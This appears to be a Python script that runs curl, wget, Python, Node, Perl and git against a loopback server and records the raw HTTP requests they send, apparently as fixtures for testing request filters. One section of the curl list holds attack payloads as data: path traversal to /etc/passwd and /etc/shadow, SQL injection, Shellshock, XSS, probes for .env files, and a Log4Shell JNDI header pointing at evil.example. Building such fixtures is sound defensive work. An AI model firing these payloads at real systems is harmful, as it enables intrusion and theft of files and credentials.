"""Record what real HTTP clients send: `python examples/data/record.py` writes requests.jsonl.

A raw socket server on the loopback interface keeps the bytes of every request exactly as they
arrive, and answers. Real programs are then run against it: curl, wget, Python, Node.js, Perl and
git, as far as they are installed. Where a program can be told, it names `shop.example` as its host
and connects from an address of its own in 127.0.0.0/8 (Linux). The one thing that is changed
afterwards is the server's port, another one at every recording: it reads 8080.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Final

HERE = Path(__file__).parent
HOST: Final = "shop.example"
MAX_REQUEST_BYTES: Final = 4 * 1024 * 1024
ORDER: Final = '{"customer": 17, "items": [{"sku": "A-100", "count": 2}], "note": "ring twice"}'
CHROME: Final = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)


class Recorder:
    """Listen on a free loopback port and keep the bytes of every request, in order of arrival."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, bytes]] = []
        self._lock = threading.Lock()
        self._listener = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        """Stop accepting."""
        self._listener.close()

    def _accept(self) -> None:
        while True:
            try:
                connection, address = self._listener.accept()
            except OSError:
                return  # Closed.
            threading.Thread(target=self._serve, args=(connection, address[0]), daemon=True).start()

    def _serve(self, connection: socket.socket, address: str) -> None:
        with connection:
            connection.settimeout(30)
            buffer = b""
            while True:
                raw, buffer = _read_request(connection, buffer)
                if not raw:
                    return
                with self._lock:
                    self.requests.append((address, raw))
                connection.sendall(_answer(raw))
                if _header(raw, b"connection").lower() == b"close" or b" HTTP/1.0\r\n" in raw:
                    return


def _read_request(connection: socket.socket, data: bytes) -> tuple[bytes, bytes]:
    """Return the bytes of one request and what came after it; nothing when there is no more."""
    continued = False
    while len(data) < MAX_REQUEST_BYTES:
        end = _request_end(data)
        if end is not None:
            return data[:end], data[end:]
        if not continued and b"\r\n\r\n" in data and _header(data, b"expect"):
            connection.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")
            continued = True
        received = connection.recv(65536)
        if not received:
            return b"", b""
        data += received
    raise RuntimeError("a client sent a request of more than 4 MiB")


def _request_end(data: bytes) -> int | None:
    head_end = data.find(b"\r\n\r\n") + 4
    if head_end < 4:  # noqa: PLR2004 - find() gave -1
        return None
    if _header(data, b"transfer-encoding").lower() == b"chunked":
        last = re.search(rb"(?:^|\r\n)0+\r\n(?:[^\r\n]+\r\n)*\r\n", data[head_end:])
        return head_end + last.end() if last else None
    end = head_end + int(_header(data, b"content-length") or 0)
    return end if len(data) >= end else None


def _header(data: bytes, name: bytes) -> bytes:
    head = data.partition(b"\r\n\r\n")[0]
    match = re.search(rb"\r\n" + name + rb":[ \t]*([^\r\n]*)", head, re.IGNORECASE)
    return match[1] if match else b""


def _answer(raw: bytes) -> bytes:
    body = b'{"ok": true}\n'
    kind = b"application/json"
    if b"service=git-upload-pack" in raw.partition(b"\r\n")[0]:
        kind = b"text/plain"  # Makes git fall back to the "dumb" protocol.
        body = b"4b825dc642cb6eb9a060e54bf8d69288fbee4904\trefs/heads/main\n"
    head = b"HTTP/1.1 200 OK\r\nContent-Type: %b\r\nContent-Length: %d\r\n\r\n" % (kind, len(body))
    return head if raw.startswith(b"HEAD ") else head + body


def curl_commands(port: int, folder: Path) -> Iterator[list[str]]:
    """Yield curl invocations: ordinary traffic, then the traffic that filters are there for."""
    connect = ["--connect-to", f"{HOST}:80:127.0.0.1:{port}"]
    url = f"http://{HOST}"
    upload = folder / "report.csv"
    upload.write_text(
        "day,orders\n" + "".join(f"2026-11-{day:02},{day * 7}\n" for day in range(1, 31))
    )
    browser = ["-A", CHROME, "-H", "Accept-Language: de-DE,de;q=0.9,en;q=0.8", "--compressed"]
    plans: list[tuple[str, list[str]]] = [
        ("127.0.0.11", [f"{url}/"]),
        ("127.0.0.11", [f"{url}/products?page=2&sort=price"]),
        ("127.0.0.11", ["-I", f"{url}/products/17"]),
        ("127.0.0.11", ["-X", "OPTIONS", "--request-target", "*", f"{url}/"]),
        ("127.0.0.11", ["-X", "DELETE", f"{url}/cart/3"]),
        ("127.0.0.11", ["--http1.0", f"{url}/robots.txt"]),
        ("127.0.0.11", ["-r", "0-1023", f"{url}/downloads/catalogue.pdf"]),
        ("127.0.0.11", ["-z", "Mon, 02 Nov 2026 10:00:00 GMT", f"{url}/news"]),
        ("127.0.0.11", ["-x", f"http://127.0.0.1:{port}", f"{url}/through/a/proxy?x=1"]),
        ("127.0.0.11", ["--json", ORDER, f"{url}/orders"]),
        ("127.0.0.11", ["-d", "name=Ada+Lovelace", "-d", "city=London", f"{url}/account"]),
        (
            "127.0.0.11",
            ["-F", f"file=@{upload};type=text/csv", "-F", "kind=daily", f"{url}/imports"],
        ),
        ("127.0.0.11", ["-T", str(upload), f"{url}/reports/november.csv"]),
        ("127.0.0.11", ["-T", "-", f"{url}/streams/1"]),
        ("127.0.0.11", ["-H", "Expect: 100-continue", "-d", "a=1", f"{url}/expect"]),
        ("127.0.0.11", ["-u", "ada:not-a-secret", f"{url}/admin"]),
        ("127.0.0.12", [*browser, f"{url}/"]),
        ("127.0.0.12", [*browser, "-e", f"{url}/", f"{url}/products"]),
        ("127.0.0.12", [*browser, "-b", "session=0a1b2c; theme=dark", f"{url}/cart"]),
        ("127.0.0.12", [*browser, "-b", "session=0a1b2c", "--json", ORDER, f"{url}/orders"]),
        ("127.0.0.12", [*browser, f"{url}/search?q=caf%C3%A9%20%26%20tea"]),
        ("127.0.0.12", [*browser, f"{url}/assets/app.js", f"{url}/assets/app.css"]),
        ("127.0.0.12", [*browser, "-H", "Cache-Control: no-cache", f"{url}/favicon.ico"]),
        (
            "127.0.0.13",
            ["-A", "Googlebot/2.1 (+http://www.google.com/bot.html)", f"{url}/robots.txt"],
        ),
        ("127.0.0.13", ["-A", "kube-probe/1.31", f"{url}/healthz"]),
        ("127.0.0.13", ["-A", "Prometheus/2.55.0", "-H", "Accept: text/plain", f"{url}/metrics"]),
        # Path traversal in its usual spellings.
        ("127.0.0.66", ["--path-as-is", f"{url}/../../../../etc/passwd"]),
        ("127.0.0.66", ["--path-as-is", f"{url}/static/../../../etc/shadow"]),
        ("127.0.0.66", ["--path-as-is", f"{url}/static/..%2f..%2f..%2fetc%2fpasswd"]),
        ("127.0.0.66", ["--path-as-is", f"{url}/%2e%2e/%2e%2e/%2e%2e/etc/passwd"]),
        ("127.0.0.66", ["--path-as-is", f"{url}/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"]),
        ("127.0.0.66", ["--path-as-is", f"{url}/icons/%252e%252e/%252e%252e/etc/passwd"]),
        ("127.0.0.66", ["--path-as-is", f"{url}/..%c0%af..%c0%afetc/passwd"]),
        ("127.0.0.66", ["--path-as-is", f"{url}/download?file=../../../../etc/passwd%00.png"]),
        ("127.0.0.66", ["--path-as-is", f"{url}/..%5c..%5cwindows%5cwin.ini"]),
        # Files that scanners look for.
        *(
            ("127.0.0.67", ["-A", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", f"{url}/{path}"])
            for path in (
                ".git/config",
                ".env",
                "wp-admin/setup-config.php",
                "phpmyadmin/index.php",
                "server-status",
                "backup.sql",
            )
        ),
        # Injection.
        *(
            ("127.0.0.68", ["-A", "sqlmap/1.8.11#stable (https://sqlmap.org)", f"{url}/{path}"])
            for path in (
                "products?id=1%20AND%201=1",
                "products?id=1%20UNION%20ALL%20SELECT%20NULL,version()--",
                "products?id=1);SELECT%20SLEEP(5)--",
                "products?id=%27%20OR%20%271%27=%271",
            )
        ),
        ("127.0.0.69", ["-A", "() { :;}; echo vulnerable", f"{url}/cgi-bin/status"]),
        ("127.0.0.69", ["-H", "X-Api-Version: ${jndi:ldap://evil.example/a}", f"{url}/api"]),
        ("127.0.0.69", [f"{url}/search?q=%3Cscript%3Ealert(1)%3C/script%3E"]),
        ("127.0.0.69", ["-X", "TRACE", f"{url}/"]),
        ("127.0.0.69", ["-X", "DEBUG", f"{url}/"]),
        # Oversized headers: one long value, a long cookie, many of them, a long path.
        ("127.0.0.70", ["-H", "X-Padding: " + "A" * 9000, f"{url}/"]),
        ("127.0.0.70", ["-b", "tracking=" + "0123456789abcdef" * 1024, f"{url}/"]),
        ("127.0.0.70", [*(f"-HX-Many-{number}: {number}" for number in range(150)), f"{url}/"]),
        ("127.0.0.70", [f"{url}/" + "deep/" * 900]),
    ]
    for address, arguments in plans:
        yield ["curl", "-q", "-sS", "--interface", address, *connect, *arguments]


def other_commands(port: int, folder: Path) -> Iterator[tuple[list[str], str]]:
    """Yield the invocations of all other programs, and what names each with its version."""
    url = f"http://127.0.0.1:{port}"
    wget = [
        "wget",
        "-q",
        "-O",
        "-",
        "--no-config",
        "--bind-address=127.0.0.21",
        f"--header=Host: {HOST}",
    ]
    for more in (
        [f"{url}/"],
        [f"{url}/downloads/catalogue.pdf"],
        ["--spider", f"{url}/downloads/catalogue.pdf"],
        [f"--post-data={ORDER}", "--header=Content-Type: application/json", f"{url}/orders"],
        ["-U", "masscan/1.3", f"{url}/login.action"],
        ["--compression=gzip", f"{url}/news?since=2026-11-01"],
    ):
        yield [*wget, *more], "wget"
    script = folder / "client.py"
    script.write_text(PYTHON_CLIENTS)
    yield [sys.executable, "-I", str(script), str(port), HOST], "python"
    script = folder / "client.mjs"
    script.write_text(NODE_CLIENTS)
    yield ["node", str(script), str(port), HOST], "node"
    script = folder / "client.pl"
    script.write_text(PERL_CLIENT)
    yield ["perl", str(script), str(port), HOST], "perl"
    # A program that is sent through a proxy names the host that it was told.
    proxy = f"http.proxy=http://127.0.0.1:{port}"
    yield ["git", "-c", proxy, "ls-remote", f"http://{HOST}/team/shop.git"], "git"
    yield ["git", "-c", proxy, "ls-remote", f"http://ada:token@{HOST}/private.git"], "git"


PYTHON_CLIENTS: Final = """
import http.client, json, sys, urllib.parse, urllib.request
port, host = int(sys.argv[1]), sys.argv[2]
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
def get(path, data=None, method=None, **headers):
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data, method=method)
    request.add_header("Host", host)
    for name, value in headers.items():
        request.add_header(name.replace("_", "-"), value)
    opener.open(request).read()
get("/feeds/atom.xml")
get("/login", urllib.parse.urlencode({"user": "ada", "next": "/cart"}).encode())
paid = json.dumps({"state": "paid"}).encode()
get("/api/orders/17", paid, "PATCH", Content_Type="application/json")
get("/api/orders", Accept="application/json", Authorization="Bearer not-a-secret")
connection = http.client.HTTPConnection("127.0.0.1", port, source_address=("127.0.0.31", 0))
def send(method, path, body=None, **headers):
    connection.request(method, path, body, {"Host": host, **headers})
    connection.getresponse().read()
send("GET", "/status")
send("HEAD", "/status")
send("PUT", "/notes/1", "buy milk", **{"Content-Type": "text/plain"})
send("POST", "/upload", iter([b"first chunk,", b" second chunk"]))
send("PROPFIND", "/dav/", "<propfind xmlns='DAV:'><allprop/></propfind>", Depth="1")
send("GET", "/legacy/caf\\xe9".replace("\\xe9", "%E9"))
try:
    import httpx
except ImportError:
    sys.exit()
transport = httpx.HTTPTransport(local_address="127.0.0.32")
base = f"http://127.0.0.1:{port}"
with httpx.Client(transport=transport, base_url=base, headers={"Host": host}) as client:
    client.get("/api/products", params={"tag": ["tea", "coffee"], "limit": 20})
    client.post("/api/reviews", json={"product": 17, "stars": 5, "text": "schmeckt gut \\u2615"})
    client.post("/api/photos", files={"photo": ("p.png", bytes(range(256)), "image/png")})
    client.patch("/api/cart", json={"items": []})
    client.delete("/api/reviews/4")
    preflight = {"Origin": "https://app.example", "Access-Control-Request-Method": "GET"}
    client.options("/api/products", headers=preflight)
"""

NODE_CLIENTS: Final = """
import http from 'node:http';
const [port, host] = process.argv.slice(2);
const send = (method, path, headers = {}, body) => new Promise((done, fail) => {
  const request = http.request({host: '127.0.0.1', port, method, path, localAddress: '127.0.0.41',
    headers: {Host: host, ...headers}}, answer => { answer.resume(); answer.on('end', done); });
  request.on('error', fail);
  request.end(body);
});
await send('GET', '/api/products?limit=5');
await send('POST', '/webhooks/payment',
  {'Content-Type': 'application/json', 'X-Signature': 'sha256=00ff'},
  JSON.stringify({event: 'paid', order: 17}));
await send('GET', '/events', {Accept: 'text/event-stream', 'Last-Event-ID': '41'});
await send('GET', '/socket', {Connection: 'Upgrade', Upgrade: 'websocket',
  'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ=='});
await fetch(`http://127.0.0.1:${port}/api/me`, {headers: {Authorization: 'Bearer not-a-secret'}});
await fetch(`http://127.0.0.1:${port}/api/cart`,
  {method: 'POST', body: new URLSearchParams({sku: 'A-100'})});
await fetch(`http://127.0.0.1:${port}/graphql`, {method: 'POST',
  headers: {'Content-Type': 'application/json'},
  body: JSON.stringify({query: '{ products { sku } }'})});
"""

PERL_CLIENT: Final = """
use HTTP::Tiny;
my ($port, $host) = @ARGV;
my $client = HTTP::Tiny->new(local_address => '127.0.0.51', proxy => "http://127.0.0.1:$port/");
$client->get("http://$host/mirror/CPAN/modules/02packages.details.txt.gz");
$client->head("http://$host/mirror/");
$client->post_form("http://$host/feedback", {stars => 4, text => 'good & cheap'});
"""


def version_of(program: str) -> str:
    """Return the name and the version of a program, as the recording shows them."""
    path = sys.executable if program == "python" else program
    question = [path, "-e", "printf 'perl %vd', $^V"] if program == "perl" else [path, "--version"]
    first = subprocess.run(question, check=True, capture_output=True, text=True).stdout.split("\n")[
        0
    ]
    found = re.search(r"\d+\.\d+(?:\.\d+)?", first)
    return f"{program} {found[0] if found else first}"


def run(recorder: Recorder, command: list[str], program: str, folder: Path) -> list[dict[str, str]]:
    """Run one client and return the lines of what it sent."""
    if shutil.which(command[0]) is None:
        print(f"{program} is not installed: left out", file=sys.stderr)  # noqa: T201 - a script
        return []
    before = len(recorder.requests)
    clean = {key: value for key, value in os.environ.items() if "proxy" not in key.lower()}
    environment = {**clean, "HOME": str(folder), "GIT_TERMINAL_PROMPT": "0", "LC_ALL": "C"}
    result = subprocess.run(
        command,
        check=False,
        capture_output=True,
        timeout=60,
        env=environment,
        cwd=folder,
        input=b"streamed " * 500,
    )
    sent = recorder.requests[before:]
    if not sent:
        raise RuntimeError(f"{command} sent nothing: {result.stderr.decode()}")
    stable = [(address, raw.replace(b":%d" % recorder.port, b":8080")) for address, raw in sent]
    name = version_of(program)
    return [
        {"client": name, "address": address, "raw": raw.decode("latin-1")}
        for address, raw in stable
    ]


def main() -> None:
    """Run every client and write the recording."""
    recorder = Recorder()
    lines: list[dict[str, str]] = []
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        for command in curl_commands(recorder.port, folder):
            lines += run(recorder, command, "curl", folder)
        for command, program in other_commands(recorder.port, folder):
            lines += run(recorder, command, program, folder)
    recorder.close()
    target = HERE / "requests.jsonl"
    target.write_text("".join(json.dumps(line) + "\n" for line in lines))
    print(f"{len(lines)} requests in {target.name}")  # noqa: T201 - a script


if __name__ == "__main__":
    main()
